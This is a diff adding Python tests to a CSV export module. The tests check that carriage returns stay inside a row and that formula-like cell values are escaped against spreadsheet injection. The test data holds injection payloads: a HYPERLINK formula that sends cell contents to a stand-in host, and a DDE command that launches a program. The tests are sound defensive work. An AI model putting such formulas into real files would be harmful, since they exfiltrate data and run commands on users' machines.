@@ -150,6 +150,30 @@ def test_csv_has_a_row_for_each_record() -> None:
     assert json.loads(rows[0]["headers"]) == [["h", "1"]]
 
 
+def test_a_carriage_return_does_not_break_a_row() -> None:
+    text = csv_row(record_facts(record(3, b"a\rb"), 100))
+    ((_, offset, _, _, value, *_),) = csv.reader(io.StringIO(text, newline=""))
+    assert (offset, value) == ("3", "a\rb")
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example/"&A1)', '\'=HYPERLINK("http://evil.example/"&A1)'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("-", "'-"),
+        *((number, number) for number in ("-5", "+49", "-1.5e-3")),
+        ("a=1", "a=1"),
+    ],
+)
+def test_a_spreadsheet_runs_no_record(value: str, cell: str) -> None:
+    text = csv_row(record_facts(record(3, value.encode()), 100))
+    (row,) = csv.reader(io.StringIO(text, newline=""))
+    assert row[4] == cell
+
+
 @pytest.mark.parametrize(
     ("change", "sentence"),
     [
